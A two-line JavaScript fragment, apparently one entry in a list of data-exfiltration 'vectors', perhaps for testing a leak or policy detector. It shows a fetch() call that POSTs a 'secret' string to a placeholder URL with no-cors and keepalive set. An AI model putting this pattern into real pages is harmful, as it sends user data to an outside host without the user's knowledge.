// vector: fetch with keepalive
fetch("$URL", { method: "POST", mode: "no-cors", keepalive: true, body: "secret" });
